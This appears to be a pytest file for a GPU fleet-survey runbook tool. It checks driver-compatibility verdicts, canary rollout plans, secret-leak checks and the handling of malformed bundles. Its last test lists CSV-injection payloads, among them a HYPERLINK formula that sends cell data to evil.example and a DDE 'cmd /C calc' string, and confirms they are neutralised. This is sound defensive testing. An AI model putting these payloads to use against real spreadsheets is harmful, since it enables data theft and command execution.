"""Runbook 07 in bundle-directory mode: the sample incidents as a fleet, decided and planned.

Real parts only: the committed sample bundles are read by the evidence package and decided by
runbook 02's decision; nothing is faked.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from conftest import INCIDENTS, R575_PLANTED, REPO_ROOT
from vllm_runbooks.execution import runs
from vllm_runbooks.fleet import Config, FleetResult, run
from vllm_runbooks.fleet.bundles import find_bundles, node_name
from vllm_runbooks.fleet.model import TABLE_COLUMNS

CPU_BUNDLES = REPO_ROOT / "examples" / "fleet" / "bundles"


@pytest.fixture(scope="module")
def surveyed(tmp_path_factory: pytest.TempPathFactory) -> tuple[FleetResult, Path]:
    run_dir = tmp_path_factory.mktemp("fleet-run")
    result = run(Config(bundles=[str(INCIDENTS), str(CPU_BUNDLES)], run_dir=str(run_dir), today="2026-11-30"))
    result.save(run_dir)
    return result, run_dir


def _by_node(result: FleetResult) -> dict:
    return {n.node: n for n in result.nodes}


def test_each_node_gets_the_verdict_its_facts_call_for(surveyed) -> None:
    result, _ = surveyed
    nodes = _by_node(result)
    assert set(nodes) == {"k3-cu130-on-r575", "k3-after-r580-upgrade", "cpu-node-03"}
    r575, r580, cpu = nodes["k3-cu130-on-r575"], nodes["k3-after-r580-upgrade"], nodes["cpu-node-03"]
    assert (r575.verdict, r575.action) == ("driver_too_old", "upgrade_driver")
    assert (r575.driver_version, r575.driver_branch, r575.driver_cuda) == ("575.57.08", "r575", "12.9")
    assert (r580.verdict, r580.action) == ("compatible", "ready")
    assert (r580.driver_branch, r580.gpu_name, r580.gpu_count, r580.compute_capability) == (
        "r580",
        "NVIDIA H200",
        8,
        "9.0",
    )
    assert r580.running is True and r580.vllm_image == "vllm/vllm-openai:kimi-k3" and r580.vllm_version
    assert r575.running is False and r575.idle is True
    assert cpu.action == "no_gpu" and cpu.gpu_count == 0 and "nvidia-smi not found" in cpu.reason
    assert all(n.toolkit == "1.17.8" for n in (r575, r580))


def test_counts_headline_and_plan(surveyed) -> None:
    result, _ = surveyed
    head = result.headline()
    assert head.runbook == "fleet_survey" and head.verdict == "upgrade_needed"
    f = head.figures
    assert (f["nodes_surveyed"], f["answered"], f["unanswered"]) == (3, 3, 0)
    assert f["verdicts"] == {"driver_too_old": 1, "compatible": 1, "unknown": 1}
    assert result.branch_counts() == {"none": {"no_gpu": 1}, "r575": {"upgrade_driver": 1}, "r580": {"ready": 1}}
    plan = result.plan
    # Two configurations with one node each: the idle one (r575, its server exited) is the canary.
    assert plan is not None and plan.canary == "k3-cu130-on-r575" == f["canary"]
    assert [s.kind for s in plan.stages] == ["canary", "few_nodes"]
    assert all(s.checks for s in plan.stages)
    assert any("Runbook 03" in c for c in plan.stages[0].checks)
    assert [e["node"] for e in plan.excluded] == ["cpu-node-03"]


def test_saved_result_reads_back_and_holds_no_secret(surveyed) -> None:
    result, run_dir = surveyed
    again = runs.load_result(run_dir, "fleet_survey")
    assert isinstance(again, FleetResult)
    assert [n.row() for n in again.nodes] == [n.row() for n in result.nodes]
    assert again.plan.canary == result.plan.canary
    csv_text = (run_dir / "fleet" / "nodes.csv").read_text(encoding="utf-8")
    assert csv_text.splitlines()[0].split(",")[: len(TABLE_COLUMNS)] == list(TABLE_COLUMNS)
    for path in run_dir.rglob("*"):
        if path.is_file():
            text = path.read_bytes().decode("utf-8", "replace")
            leaked = [s for s in R575_PLANTED if s in text]
            assert not leaked, f"{path} holds {leaked}"


def test_display_and_scraps(surveyed) -> None:
    result, _ = surveyed
    html = result._repr_html_()
    assert "k3-cu130-on-r575" in html and "upgrade_driver" in html
    assert "Canary" in result.plan._repr_html_()
    scraps = result.scraps()
    assert scraps["headline"]["verdict"] == "upgrade_needed" and len(scraps["fleet_table"]) == 3
    fig = result.figure("counts").figure
    assert {t.name for t in fig.data} >= {"ready", "upgrade_driver", "no_gpu"}
    json.dumps(scraps)


def test_a_bad_bundle_is_an_unanswered_row_not_a_stopped_survey(tmp_path: Path) -> None:
    folder = tmp_path / "bundles"
    folder.mkdir()
    (folder / "broken-node.tar.gz").write_bytes(b"not a tarball at all")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        tf.add(str(INCIDENTS / "k3-after-r580-upgrade"), arcname="bundle")
    (folder / "good-node.tar.gz").write_bytes(buf.getvalue())
    (folder / "README.md").write_text("not a node\n")
    result = run(Config(bundles=[str(folder)], run_dir=str(tmp_path / "run")))
    nodes = _by_node(result)
    assert set(nodes) == {"broken-node", "good-node"}
    assert nodes["good-node"].action == "ready"
    assert nodes["broken-node"].action == "unanswered" and nodes["broken-node"].why == "bad_bundle"
    assert result.headline().verdict == "incomplete"


def test_refuses_to_survey_over_an_earlier_survey(surveyed) -> None:
    _, run_dir = surveyed
    with pytest.raises(FileExistsError):
        run(Config(bundles=[str(INCIDENTS)], run_dir=str(run_dir)))


def test_config_without_a_source_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="nothing to survey"):
        run(Config(run_dir=str(tmp_path)))


def test_bundle_discovery_names(tmp_path: Path) -> None:
    (tmp_path / "a node!").mkdir()
    (tmp_path / "n2.tgz").write_bytes(b"")
    (tmp_path / ".hidden").mkdir()
    (tmp_path / ".DS_Store").write_bytes(b"\0")  # noise, not a node
    (tmp_path / "linked-node").symlink_to(tmp_path / "a node!")
    found, bad = find_bundles(tmp_path)
    assert [n for n, _ in found] == ["a-node", "n2"]
    # never skipped silently: a hidden folder and a link are nodes without an answer, with the reason
    reasons = {b.node: b.reason for b in bad}
    assert set(reasons) == {"hidden", "linked-node"}, reasons
    assert "hidden" in reasons["hidden"] and "symbolic link" in reasons["linked-node"]
    assert node_name("../../etc") == "etc" and node_name("///") == "node"


def test_nodes_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    """A hostname or reason from a node's bundle such as ``=HYPERLINK(...)`` is text in nodes.csv."""
    import csv

    from vllm_runbooks.fleet.model import WHY_BAD_BUNDLE, unanswered

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]
    nodes = [unanswered(h, WHY_BAD_BUNDLE, "unreadable", "bundle") for h in hostile]
    result = FleetResult(nodes=nodes)
    result.save(tmp_path)
    with (tmp_path / "fleet" / "nodes.csv").open(encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert cells and all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
    assert any(c == "'" + hostile[0] for c in cells)
